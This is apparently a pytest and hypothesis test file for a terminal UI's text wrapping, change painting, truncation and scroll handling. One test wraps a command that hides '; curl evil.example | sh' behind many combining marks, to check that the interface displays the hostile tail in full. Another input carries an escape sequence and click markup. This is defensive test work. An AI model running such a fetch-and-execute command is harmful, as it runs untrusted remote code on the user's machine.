"""Text broken into lines."""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from textual.containers import VerticalScroll
from wcwidth import wcswidth

from tests.tui.driving import opened
from tui_tasks.text import cells
from tui_tasks.text.safe import cell_len, safe_text, whole_text
from tui_tasks.tui.asks.request_lines import unhidden_prose
from tui_tasks.tui.painting.line_painter import changed_span, rule_parts
from tui_tasks.tui.painting.text_lines import (
    MAX_LINES,
    Drawn,
    ScrollLines,
    TextDrawing,
    TextLines,
    broken_whole,
    wrapped,
)


@given(st.text(st.sampled_from("ab  数é\u0301👩\t\x1b\n")), st.integers(2, 12))
def test_no_line_is_wider_than_there_is_room_and_nothing_but_spaces_is_lost(text: str, width: int) -> None:
    lines = wrapped(text, width)
    assert all(cell_len(line) <= width for line in lines)
    assert "".join("".join(lines).split()) == "".join(safe_text(text).split())


def test_a_command_with_spacing_marks_is_shown_to_its_end() -> None:
    command = "echo " + "\u0915\u093e" * 30 + "; curl evil.example | sh"
    lines = wrapped(whole_text(command), 40)
    assert all(wcswidth(line) <= 40 for line in lines)
    assert "".join("".join(lines).split()) == "".join(command.split())
    assert not any(line.startswith("\u093e") for line in lines)


@pytest.mark.parametrize("unit", ["数", "数 ", "\x1b[31m数[@click=app.quit]"])
def test_each_character_of_a_line_without_end_is_looked_at_a_few_times_at_most(
    unit: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    looks = 0

    def size(char: str, measure: object = cells.get_character_cell_size) -> int:
        nonlocal looks
        looks += 1
        return measure(char)

    monkeypatch.setattr(cells, "get_character_cell_size", size)
    text = unit * (100_000 // len(unit))
    assert len(wrapped(text, 40, 200_000)) > 1_000
    assert looks < 3 * len(text)


@st.composite
def parts(draw: st.DrawFn) -> list[tuple[str, str]]:
    styles, texts = st.sampled_from(["", "$muted"]), st.text(st.sampled_from("ab  数é"), max_size=4)
    return draw(st.lists(st.tuples(texts, styles), max_size=4))


def cells_of(line: list[tuple[str, str]], width: int) -> list[tuple[str, str]]:
    """What stands in each cell, and in what style; of a wide character, the second cell too."""
    cells = [(char, style) for text, style in line for char in text for _ in range(cell_len(char))]
    return [*cells, *[(" ", "")] * width][:width]


@given(parts(), parts(), st.integers(1, 12))
def test_what_two_lines_differ_in_is_within_the_columns_that_are_painted(
    old: list[tuple[str, str]], new: list[tuple[str, str]], width: int
) -> None:
    first, end = changed_span(old, new, width)
    assert 0 <= first <= end <= width
    before, after = cells_of(old, width), cells_of(new, width)
    assert before[:first] == after[:first]
    assert before[end:] == after[end:]


def test_of_a_digit_that_changes_that_digit_is_painted() -> None:
    old = [("> 5 ", ""), ("Ship auth flow", "$muted"), ("  40s ", "")]
    new = [("> 5 ", ""), ("Ship auth flow", "$muted"), ("  41s ", "")]
    assert changed_span(old, new, 30) == (21, 22)
    assert changed_span(old, old, 30) == (0, 0)
    assert changed_span(old, [*old[:2], ("  100s ", "")], 30) == (20, 25)


def test_no_line_begins_with_a_non_joiner_and_none_is_lost() -> None:
    text = "\u53ef\u4ee5 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 " * 3
    for width in range(3, 60):
        assert "".join(broken_whole(text, width)) == text
        assert not [
            line for line in (*broken_whole(text, width), *wrapped(text, width)) if line.strip()[:1] == "\u200c"
        ]


@pytest.mark.parametrize("part", ["\u2028", "\n", "a\u2028\n", "x"], ids=ascii)
def test_however_a_text_is_broken_into_lines_no_more_are_drawn_than_a_human_reads(part: str) -> None:
    text = part * 150_000
    assert len(wrapped(text, 40)) <= MAX_LINES
    lines, is_whole = unhidden_prose(text, 40, ascii_only=False)
    assert len(lines) <= MAX_LINES + 1_002 and not is_whole, "its end is shown, too: a thousand characters"
    assert unhidden_prose(text, 40, ascii_only=False).lines is lines, "laid out once"


def test_prose_that_is_cut_says_of_how_many_characters_and_shows_its_end() -> None:
    whole = [f"line {number:05}" for number in range(MAX_LINES)]
    assert unhidden_prose("\n".join(whole), 40, ascii_only=False).is_whole
    lines, is_whole = unhidden_prose("\n".join([*whole, *["more"] * 1_000, "the end"]), 40, ascii_only=False)
    texts = ["".join(text for text, _ in line).strip() for line in lines]
    assert texts[: MAX_LINES + 1] == [
        *(f"{line}\u23ce" for line in whole),
        "\u2026 4,007 characters are left out \u2026",
    ]
    assert texts[-1] == "the end" and not is_whole


def test_a_name_in_a_rule_cannot_look_as_if_the_rule_ended():
    parts = rule_parts(SimpleNamespace(ascii_only=False), 40, [("Plan ── ┤ ok ├ ──", "bold")])
    line = "".join(text for text, _ in parts)
    assert line == "─ Plan -- - ok - -- " + "─" * 20


class Numbered(TextDrawing):
    """So many numbered lines."""

    number = 30
    drawn = 0

    def lines(self, width: int, height: int) -> list[Drawn]:
        self.drawn += 1
        return [[(f"line {at}", "")] for at in range(self.number)]


async def test_a_text_that_was_measured_before_it_is_drawn_again_leaves_no_empty_lines_below_its_end(app) -> None:
    async with opened(app) as pilot:
        text = Numbered(app.context)
        drawn = TextLines(app.context, text)
        scroll = VerticalScroll(drawn)
        scroll.styles.height = 10
        await app.screen.mount(scroll)
        await pilot.pause()
        assert drawn.size.height == 30
        text.number = 5
        # Textual measures it with and without room for a scroll bar.
        for width in (drawn.size.width + 1, drawn.size.width):
            drawn.get_content_height(drawn.size, drawn.size, width)
        drawn.redraw()
        await pilot.pause()
        assert drawn.size.height == 5
        text.drawn = 0
        drawn.redraw()
        await pilot.pause()
        assert text.drawn == 1, "what has its height is not laid out again"


@pytest.mark.parametrize(("before", "after"), [(30, 10), (10, 30), (30, 60), (30, 0)])
async def test_the_scroll_mark_follows_a_text_whose_first_lines_stay(before: int, after: int, app, monkeypatch) -> None:
    async with opened(app) as pilot:
        text = Numbered(app.context)
        text.number = before
        drawn = ScrollLines(app.context, text)
        drawn.styles.height = 10
        await app.screen.mount(drawn)
        await pilot.pause()
        marks = [drawn.render_line(y).text[-1] for y in range(10)]
        painted = []
        monkeypatch.setattr(drawn, "refresh", lambda *regions: painted.extend(regions or [drawn.size.region]))
        text.number = after
        drawn.redraw()
        for y, mark in enumerate(marks):
            is_painted = any(region.contains(drawn.size.width - 1, y) for region in painted)
            assert is_painted or drawn.render_line(y).text[-1] == mark
